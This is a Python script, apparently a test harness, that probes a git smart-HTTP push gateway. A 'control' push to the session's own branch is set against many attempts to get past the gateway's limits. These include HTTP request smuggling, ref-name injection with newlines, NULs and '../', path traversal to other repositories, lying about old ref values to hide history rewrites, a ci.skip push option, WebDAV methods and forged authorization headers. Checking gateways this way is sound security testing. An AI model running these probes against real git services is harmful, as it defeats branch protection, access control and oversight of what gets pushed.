"""Requests past git: what a program can say to a git gateway with the session's own token. Runs inside, alone.

`python3 raw.py URL HEADER BRANCH WHAT` in a clone; prints the answer's status and its beginning. URL is the
repository's, HEADER opens it. WHAT is a name of `TRIES`; `control` sends the own branch in the same way.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import subprocess
import sys
from urllib.parse import urlsplit

ZERO = "0" * 40
CAPS = "report-status side-band-64k agent=raw"


def git(*words: str, stdin: bytes = b"") -> bytes:
    return subprocess.run(("git", *words), input=stdin, stdout=subprocess.PIPE, check=True).stdout


def tip(name: str) -> str:
    return git("rev-parse", name).decode().strip()


def line(text: str | bytes) -> bytes:
    content = text if isinstance(text, bytes) else text.encode()
    return b"%04x" % (len(content) + 4) + content


def commands(*updates: tuple[str, str, str], caps: str = CAPS, before: tuple[str, ...] = ()) -> bytes:
    lines = [f"{old} {new} {ref}" for old, new, ref in updates]
    lines[0] += f"\0{caps}"
    return b"".join([*map(line, before), *map(line, lines)]) + b"0000"


def pack(new: str, *known: str) -> bytes:
    revisions = "\n".join((new, *(f"^{one}" for one in known))).encode()
    return git("pack-objects", "--revs", "--stdout", "-q", stdin=revisions)


class Site:
    def __init__(self, url: str, header: str, branch: str) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "", parts.port or 80
        self.path, self.header, self.branch = parts.path, header, f"refs/heads/{branch}"

    def send(
        self,
        method: str,
        path: str,
        body: bytes = b"",
        *,
        headers: tuple[str, ...] = (),
        length: bool = True,
        header: str | None = None,
    ) -> str:
        """One request as it is given, and the answer's first bytes."""
        opened = self.header if header is None else header
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.host}", "Connection: close"]
        lines += [opened] if opened else []
        lines += [f"Content-Length: {len(body)}"] if length else []
        content = "\r\n".join([*lines, *headers, "", ""]).encode() + body
        with socket.create_connection((self.host, self.port), timeout=30) as plug:
            with contextlib.suppress(OSError):  # answered before all of it was said
                plug.sendall(content)
            found = b""
            while len(found) < 4000:
                try:
                    got = plug.recv(4000)
                except OSError:
                    break
                if not got:
                    break
                found += got
        return found.decode("utf-8", "replace")

    def push(self, body: bytes, *, path: str = "", headers: tuple[str, ...] = (), length: bool = True) -> str:
        kind = "Content-Type: application/x-git-receive-pack-request"
        return self.send("POST", path or f"{self.path}/git-receive-pack", body, headers=(kind, *headers), length=length)

    def moved(self, ref: str) -> bytes:
        """The body that moves `ref` to HEAD, whose history the other side knows up to main."""
        at, known = tip("HEAD"), tip("origin/main")
        return commands((self.there(ref), at, ref)) + pack(at, known)

    def there(self, ref: str) -> str:
        for one in git("ls-remote", "origin").decode().splitlines():
            if one.partition("\t")[2] == ref:
                return one.partition("\t")[0]
        return ZERO


MAIN = "refs/heads/main"


def unasked(site: Site) -> str:
    return site.push(site.moved(MAIN))


def packed(site: Site) -> str:
    return site.push(gzip.compress(site.moved(MAIN)), headers=("Content-Encoding: gzip",))


def chunked(site: Site) -> str:
    body = site.moved(MAIN)
    return site.push(
        b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body), headers=("Transfer-Encoding: chunked",), length=False
    )


def smuggled(site: Site) -> str:
    """Two lengths: what one side takes for the end, the other takes for the middle."""
    hidden = site.moved(MAIN)
    inner = (
        f"POST {site.path}/git-receive-pack HTTP/1.1\r\nHost: x\r\n{site.header}\r\nContent-Length: {len(hidden)}\r\n"
    )
    body = b"0\r\n\r\n" + inner.encode() + b"\r\n" + hidden
    return site.push(body, headers=("Transfer-Encoding: chunked",))


def both(site: Site) -> str:
    at, known = tip("HEAD"), tip("origin/main")
    updates = [(site.there(one), at, one) for one in (site.branch, MAIN)]
    return site.push(commands(*updates, caps=f"{CAPS} atomic") + pack(at, known))


def same_twice(site: Site) -> str:
    at, known = tip("HEAD"), tip("origin/main")
    updates = [(site.there(site.branch), at, site.branch), (at, known, site.branch)]
    return site.push(commands(*updates) + pack(at, known))


def lie_about_old(site: Site) -> str:
    """The gateway is told that the branch is where it began, so that a rewrite looks like a step forward."""
    new = git("commit-tree", "-p", "origin/main", "-m", "lie", "HEAD^{tree}").decode().strip()
    known = tip("origin/main")
    return site.push(commands((known, new, site.branch)) + pack(new, known))


def lie_that_it_is_new(site: Site) -> str:
    new = git("commit-tree", "-p", "origin/main", "-m", "lie", "HEAD^{tree}").decode().strip()
    return site.push(commands((ZERO, new, site.branch)) + pack(new, tip("origin/main")))


def dots(site: Site) -> str:
    return site.push(site.moved(f"{site.branch}/../../main"))


def line_in_a_name(site: Site) -> str:
    return site.push(site.moved(f"{site.branch}\n{ZERO} {tip('HEAD')} {MAIN}"))


def null_in_a_name(site: Site) -> str:
    at = tip("HEAD")
    content = line(f"{ZERO} {at} {site.branch}\0{CAPS}") + line(f"{site.there(MAIN)} {at} {MAIN}\0\0x")
    return site.push(content + b"0000" + pack(at, tip("origin/main")))


def no_ref_at_all(site: Site) -> str:
    return site.push(site.moved("HEAD"))


def long_name(site: Site) -> str:
    return site.push(site.moved("refs/heads/" + "x/" * 32000))


def lengths_that_lie(site: Site) -> str:
    junk = [b"fff0" + b"x" * 100, b"0003", b"zzzz0000", b"ffff" * 50000, b"0004" * 1000 + b"0000", b"0001", b"-001"]
    return "\n".join(site.push(one)[:40] for one in junk)


def junk_for_a_pack(site: Site) -> str:
    return site.push(commands((ZERO, "1" * 40, site.branch)) + b"PACK" + b"\xff" * 100_000)


def another_object_format(site: Site) -> str:
    at = tip("HEAD") + "0" * 24
    return site.push(commands((ZERO + "0" * 24, at, MAIN), caps=f"{CAPS} object-format=sha256"))


def shallow_lines(site: Site) -> str:
    at = tip("HEAD")
    body = commands((site.there(MAIN), at, MAIN), before=(f"shallow {tip('origin/main')}",))
    return site.push(body + pack(at, tip("origin/main")))


def push_options(site: Site) -> str:
    at = tip("HEAD")
    body = commands((site.there(MAIN), at, MAIN), caps=f"{CAPS} push-options") + line("ci.skip") + b"0000"
    return site.push(body + pack(at, tip("origin/main")))


def certificate(site: Site) -> str:
    at = tip("HEAD")
    told = ["certificate version 0.1\n", "pusher x\n", "nonce 0\n", "\n", f"{site.there(MAIN)} {at} {MAIN}\n"]
    body = b"".join(map(line, [f"push-cert\0{CAPS}", *told, "push-cert-end\n"])) + b"0000"
    return site.push(body + pack(at, tip("origin/main")))


def other_paths(site: Site) -> str:
    """The own branch, well formed, to other repositories: each must be turned away."""
    body, name = site.moved(site.branch), site.path
    paths = [
        "/team/secret.git/git-receive-pack",
        f"{name}/../secret.git/git-receive-pack",
        f"{name}/%2e%2e/secret.git/git-receive-pack",
        f"/.{name}/git-receive-pack",
        f"{name}/objects/../git-receive-pack",
        "/upstream/git-receive-pack",
        "/mirror/git-receive-pack",
        "/gateway/repository.git/git-receive-pack",
        f"http://elsewhere.example{name.replace('.git', '')}x.git/git-receive-pack",
        f"{name}%00/git-receive-pack",
    ]
    return "\n".join(site.push(body, path=one)[:40] for one in paths)


def without_smart_http(site: Site) -> str:
    """As a folder of files, and by WebDAV."""
    asked = [("GET", one) for one in ("HEAD", "info/refs", "config", "objects/info/packs", "hooks/pre-receive")]
    asked += [("GET", "info/refs?service=git-upload-archive"), ("GET", "info/refs?service=../../bin/sh")]
    asked += [("POST", "git-upload-archive"), ("POST", "objects/info/alternates")]
    asked += [(one, "refs/heads/main") for one in ("PUT", "DELETE", "PROPFIND", "LOCK", "MOVE", "PATCH", "OPTIONS")]
    return "\n".join(site.send(method, f"{site.path}/{rest}")[:40] for method, rest in asked)


def without_the_token(site: Site) -> str:
    body = site.moved(site.branch)
    headers = ["", "Authorization: Basic c2Vzc2lvbjp3cm9uZw==", "Authorization: Bearer x", "Authorization: Basic ===="]
    path = f"{site.path}/git-receive-pack"
    return "\n".join(site.send("POST", path, body, header=one)[:40] for one in headers)


def control(site: Site) -> str:
    return site.push(site.moved(site.branch))


TRIES = {name: found for name, found in globals().items() if getattr(found, "__annotations__", {}).get("site")}

if __name__ == "__main__":
    sys.stdout.write(TRIES[sys.argv[4]](Site(*sys.argv[1:4])))
